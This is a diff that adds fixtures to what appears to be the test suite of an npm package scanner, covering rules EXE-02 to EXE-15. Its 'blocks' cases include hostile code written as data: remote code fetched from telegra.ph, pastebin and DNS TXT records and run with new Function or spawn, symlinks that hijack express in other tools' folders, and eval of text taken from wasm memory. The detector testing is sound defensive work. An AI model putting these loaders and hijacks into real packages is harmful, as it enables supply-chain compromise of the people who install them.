@@ -85,6 +85,61 @@ function fetchedRuntime(unpack: string, then: string) {
 
 const unpack = `cp.spawnSync("tar", ["-xzf", archive, "-C", folder], { stdio: "inherit" });`;
 
+/** One file for the hook that fetches a program and the command that starts it. */
+function fetchedOrRun(afterwards: string) {
+  return {
+    manifest: {
+      name: "sample",
+      bin: { sample: "run.js" },
+      scripts: { postinstall: "node install.js" },
+    },
+    files: {
+      "both.js": `
+        const os = require("os"), path = require("path"), https = require("https"), tar = require("tar");
+        const { spawnSync } = require("child_process");
+        const folder = path.join(__dirname, "binary");
+        const file = path.join(folder, os.type() === "Windows_NT" ? "sample.exe" : "sample");
+        const get = (url) => new Promise((done, fail) => {
+          const go = (at) => https.get(at, (r) => {
+            if (r.headers.location) return go(new URL(r.headers.location, at).toString());
+            done(r);
+          }).on("error", fail);
+          go(url);
+        });
+        exports.run = () => spawnSync(file, process.argv.slice(2), { stdio: "inherit" });
+        exports.install = async () => {
+          const stream = await get("https://github.com/sample/sample/releases/download/v1/" + os.arch() + ".tgz");
+          await new Promise((done) => stream.pipe(tar.x({ strip: 1, C: folder })).on("finish", done));
+          ${afterwards}
+        };`,
+      "install.js": `require("./both").install();`,
+      "run.js": `require("./both").run();`,
+    },
+  };
+}
+
+/** A program of which a service says which release a caller gets. */
+function namedRelease(program: string) {
+  return {
+    files: {
+      "index.js": `
+        const cp = require("child_process"), path = require("path"), fs = require("fs");
+        const load = require("./load");
+        exports.start = async (region, words) => {
+          const answer = await (await fetch("https://" + regionOf(region) + "/releases")).json();
+          const folder = path.join(__dirname, "tunnel", ".v" + answer.version);
+          if (!fs.existsSync(folder)) await load(answer.url, folder);
+          return cp.spawn(${program}, ["run", "--name=" + words]);
+        };
+        const regionOf = (region) => require("./regions")[region] || region;`,
+      "load.js": `
+        const https = require("https"), fs = require("fs");
+        module.exports = (url, to) => new Promise((done) => https.get(url, (r) => r.pipe(fs.createWriteStream(to + ".zip")).on("finish", done)));`,
+      "regions.js": `module.exports = process.env.SAMPLE_REGIONS;`,
+    },
+  };
+}
+
 describeVerdicts("EXE-02", {
   blocks: {
     "what was in an archive that was fetched": fetchedRuntime(
@@ -134,6 +189,7 @@ describeVerdicts("EXE-02", {
         data.pipe(file);
         file.on("close", () => exec("/tmp/.u &"));
       });`),
+    "what the hook starts in the file that also has the command": fetchedOrRun("exports.run();"),
     "a download from a mirror or else a host, started for good": {
       manifest: {
         name: "sample",
@@ -157,11 +213,17 @@ describeVerdicts("EXE-02", {
     },
   },
   warns: {
+    "a program that a service names": namedRelease(`path.join(folder, answer.program)`),
+    "an interpreter in a folder that a service names": namedRelease(`path.join(folder, "node")`),
     "a command of which the program is named at a fixed place": asCommand(`
       const { spawnSync } = require("child_process");
       fetch("${url}").then((r) => r.json()).then((plan) => spawnSync(plan.program, ["--go"]));`),
   },
   passes: {
+    "a program that only the package's command starts": fetchedOrRun(""),
+    "a release of its own program that a service names": namedRelease(
+      `path.join(folder, "tunnel")`,
+    ),
     "a runtime that is unpacked and asked for its version": fetchedRuntime(
       unpack,
       `cp.spawnSync(path.join(folder, "bin", "run"), ["--version"]);`,
@@ -280,6 +342,17 @@ describeVerdicts("EXE-03", {
       exports.load = () => WebAssembly.instantiate(bytes, {});`,
     "a template function": `
       exports.template = (text) => new Function("data", "let o='';" + text.replace(/\\{(\\w+)\\}/g, "';o+=data.$1;o+='") + "return o;");`,
+    "a compiler that steps through tables": `
+      const flags = [${Array.from({ length: 128 }, (_, at) => (at % 3 === 0 ? 4096 : at + (at % 2) * 0x1000000)).join(",")}];
+      function scan(source) {
+        let out = "";
+        for (let at = 0; at < source.length; at++) {
+          const kind = flags[source.charCodeAt(at)] ^ at;
+          out += String.fromCharCode(kind & 127) + source.slice(at, at + 1);
+        }
+        return out;
+      }
+      require.extensions[".own"] = (made, file) => made._compile(scan(require("fs").readFileSync(file, "utf8")), file);`,
     "the global object": `const g = Function("return this")(); module.exports = g.setTimeout;`,
   },
 });
@@ -425,6 +498,13 @@ describeVerdicts("EXE-09", {
         .then(({ result }) => fetch(Buffer.from(result.slice(2), "hex").toString()))
         .then((r) => r.text())
         .then((t) => new Function(t)());`,
+    "an address from a channel whose name is written, when it is called": `
+      exports.refresh = async () => {
+        const page = await (await fetch("https://telegra.ph/sample-notes-01-02")).text();
+        return fetch(/at=([^"]+)/.exec(page)[1]).then((r) => r.text()).then((t) => new Function(t)());
+      };`,
+    "a program from a paste": atInstall(`
+      fetch("https://pastebin.com/raw/abcdef").then((r) => r.text()).then((t) => require("child_process").spawn(t.trim(), ["-q"]));`),
     "an address from a name": `
       require("dns").resolveTxt("d.example.test", (e, r) => fetch(r[0][0]).then((x) => x.text()).then((t) => require("vm").runInThisContext(t)));`,
   },
@@ -440,6 +520,38 @@ describeVerdicts("EXE-09", {
         const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: {} });
         const { result } = await (await fetch("https://rpc.sample.example", { method: "POST", body })).json();
         return fetch(result.url);
+      };`,
+    "a driver that is fetched in the version that is written somewhere": {
+      manifest: { scripts: { postinstall: "node install.js" }, bin: { driver: "cli.js" } },
+      files: {
+        "index.js": "",
+        "install.js": `require("./driver.js").download(process.env.DRIVER_VERSION);`,
+        "cli.js": `require("./driver.js").download().then((file) => require("child_process").spawn(file, process.argv.slice(2)));`,
+        "driver.js": `
+          const path = require("path"), os = require("os"), util = require("util"), fs = require("fs/promises");
+          const from = (process.env.DRIVER_CDN || "https://files.example.test/releases") + "/v%s/driver-%s.tar.gz";
+          async function again(url) { try { return await fetch(url); } catch { return fetch(url); } }
+          exports.download = async (version, folder = process.env.DRIVER_CACHE || os.tmpdir()) => {
+            if (!version) {
+              const text = await (await again("https://raw.githubusercontent.com/a/driver/main/Cargo.toml")).text();
+              version = text.split("\\n").find((line) => line.startsWith("version = ")).split(" = ").pop().slice(1, -1);
+            }
+            const file = path.resolve(folder, "driver-" + version + (os.platform() === "win32" ? ".exe" : ""));
+            const answer = await again(util.format(from, version, version));
+            await fs.writeFile(file, Buffer.from(await answer.arrayBuffer()));
+            return file;
+          };`,
+      },
+    },
+    "tables of a repository, as a list of it says": asCommand(`
+      const root = "https://raw.githubusercontent.com/a/docs/main";
+      const get = async (path) => (await fetch(path)).json();
+      get(root + "/manifest.json").then((rows) => Promise.all(rows.map(({ uri }) => get(root + "/schemas/" + uri))));`),
+    "a client of a chat that sends what is written there": `
+      exports.Bot = class {
+        constructor(token) { this.token = token; }
+        async ask(method, body) { return (await fetch("https://api.telegram.org/bot" + this.token + "/" + method, { method: "POST", body })).json(); }
+        async pass() { const { result } = await this.ask("getUpdates"); return fetch(result[0].message.text); }
       };`,
     "a record that is returned": `exports.txt = (name) => require("dns").promises.resolveTxt(name);`,
     "a version of a release": `
@@ -468,6 +580,22 @@ describeVerdicts("EXE-11", {
       const fs = require("fs"), path = require("path");
       const at = path.join(process.env.APP_ROOT, "node_modules", "express");
       if (!fs.existsSync(at)) fs.symlinkSync(path.join(__dirname, "other"), at, "dir");`,
+    "a link in what another tool keeps in the project": {
+      manifest: { name: "sample" },
+      files: {
+        "index.js": `
+          const fs = require("fs"), path = require("path");
+          fs.symlinkSync(process.env.APP_OTHER, path.resolve(process.cwd(), ".builder/server/node_modules/express"));`,
+      },
+    },
+    "a file in what a tool of that name keeps in the project": {
+      manifest: { name: "sample" },
+      files: {
+        "index.js": `
+          const fs = require("fs"), path = require("path");
+          fs.writeFileSync(path.resolve(process.cwd(), ".sample/plugins/node_modules/express/index.js"), "x()");`,
+      },
+    },
     "beside its own folder": `
       require("fs").writeFileSync(process.cwd() + "/node_modules/sample/../express/index.js", "x()");`,
     "a neighbour, from the folder that a hook runs in": atInstall(`
@@ -483,6 +611,16 @@ describeVerdicts("EXE-11", {
       const dir = fs.mkdtempSync(path.join(os.tmpdir(), "check-"));
       fs.mkdirSync(path.join(dir, "node_modules"));
       fs.symlinkSync(process.cwd(), path.join(dir, "node_modules", "tool"), "dir");`,
+    "a link in what it keeps in the project itself": {
+      manifest: { name: "@samplejs/run" },
+      files: {
+        "index.js": `
+          const fs = require("fs"), path = require("path");
+          const at = path.resolve(process.cwd(), ".sample/plugins/node_modules/@samplejs/core");
+          fs.rmSync(at, { force: true });
+          fs.symlinkSync(require("@samplejs/core").folder, at);`,
+      },
+    },
     "a link where nothing is": `
       const fs = require("fs"), path = require("path");
       const at = path.join(process.env.APP_ROOT, "node_modules", "tool");
@@ -593,11 +731,59 @@ function bindings(one: string): string {
 
 const newFunction = "__wbg_newnoargs_105ed471475aaf50";
 
+/** What C++'s tools write around a module: a function for each of its own that converts what it takes. */
+function wires(make: string): string {
+  return `
+    const bytes = require("fs").readFileSync(require("path").join(__dirname, "codec.wasm"));
+    let memory;
+    const text = (at, length) => Buffer.from(memory.buffer).toString("utf8", at, at + length);
+    const types = {};
+    const register = (id, at, length, size) => {
+      types[id] = { name: text(at, length), argPackAdvance: size, fromWireType: (x) => x, toWireType: (_, x) => x };
+    };
+    function newFunc(constructor, list) {
+      if (!(constructor instanceof Function)) {
+        throw new TypeError("new_ called with constructor type " + typeof constructor + " which is not a function");
+      }
+      const dummy = function () {};
+      dummy.prototype = constructor.prototype;
+      const obj = new dummy();
+      const made = constructor.apply(obj, list);
+      return made instanceof Object ? made : obj;
+    }
+    const invoker = (ids, fn) => {
+      const list = ids.map((id) => types[id] || text(id, 4));
+      let body = "return function (a) { return ";
+      for (const type of list) body += "type" + type.argPackAdvance + ".fromWireType(fn(";
+      ${make}
+    };
+    WebAssembly.instantiate(bytes, { env: { register, invoker } }).then(({ instance }) => {
+      memory = instance.exports.memory;
+      exports.codec = instance.exports;
+    });`;
+}
+
 describeVerdicts("EXE-15", {
   blocks: {
     "a binding that runs the text at once": bindings(
       `module.exports.${newFunction} = function (at, length) { return new Function(text(at, length))(); };`,
     ),
+    "the same function of a text that is put in at once": wires(
+      "return newFunc.call(null, Function, ['x']), new Function(body + text(ids[0], 99));",
+    ),
+    "text that is run beside bindings of C++": wires(
+      "return new Function(body + text(ids[0], 99));",
+    ),
+    "a name that brings a body of its own": wires(
+      'return new Function("body", "return function " + body + text(ids[0], 99))(fn);',
+    ),
+    "text that is run where a linker merely is spoken of": `
+      // dylink __wasm_apply_data_relocs GOT.mem __memory_base
+      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
+      const memory = new WebAssembly.Memory({ initial: 1 });
+      const run = (at, length) => eval(Buffer.from(memory.buffer).toString("utf8", at, at + length) + at);
+      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, run } }).exports.start();`,
+    "text that is evaluated beside them": wires("return eval(body + text(ids[0], 99));"),
     "a binding that evaluates": bindings(
       `module.exports.__wbg_eval_105ed471475aaf50 = function (at, length) { return eval(text(at, length)); };`,
     ),
@@ -621,6 +807,25 @@ describeVerdicts("EXE-15", {
       WebAssembly.instantiate(fs.readFileSync(__dirname + "/a.wasm"), { host: { read: fs.readFileSync } });`,
   },
   passes: {
+    "bindings of C++ that write the whole function": wires(`
+      body += "x)); function check() { fail(name + ' called with ' + arguments.length + ' arguments, expected 2') }";
+      body += "undo(destructors)}";
+      const names = "fn";
+      return new Function(names, body)(fn);`),
+    "bindings of C++": wires("return newFunc(Function, ['fn', body + ')}'])(fn);"),
+    "bindings of C++ that name a function": wires(
+      `return new Function("body", "return function " + body + "() {\\n" + "    'use strict';" + "    return body.apply(this, arguments);\\n};")(fn);`,
+    ),
+    "lines of script that a linker puts in place": `
+      const bytes = require("fs").readFileSync(__dirname + "/side.wasm");
+      const memory = new WebAssembly.Memory({ initial: 1 });
+      const scripts = {};
+      const add = (at, length) => {
+        if (!("__start_em_asm" in scripts) && !("__stop_em_asm" in scripts)) scripts.none = "__memory_base";
+        return eval("(" + Buffer.from(memory.buffer).toString("utf8", at, at + length) + at + ")");
+      };
+      const names = ["dylink.0", "GOT.mem", "__wasm_apply_data_relocs"];
+      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, add, names } }).exports.start();`,
     "a codec": `
       const memory = new WebAssembly.Memory({ initial: 1 });
       const abort = () => { throw new Error("abort"); };
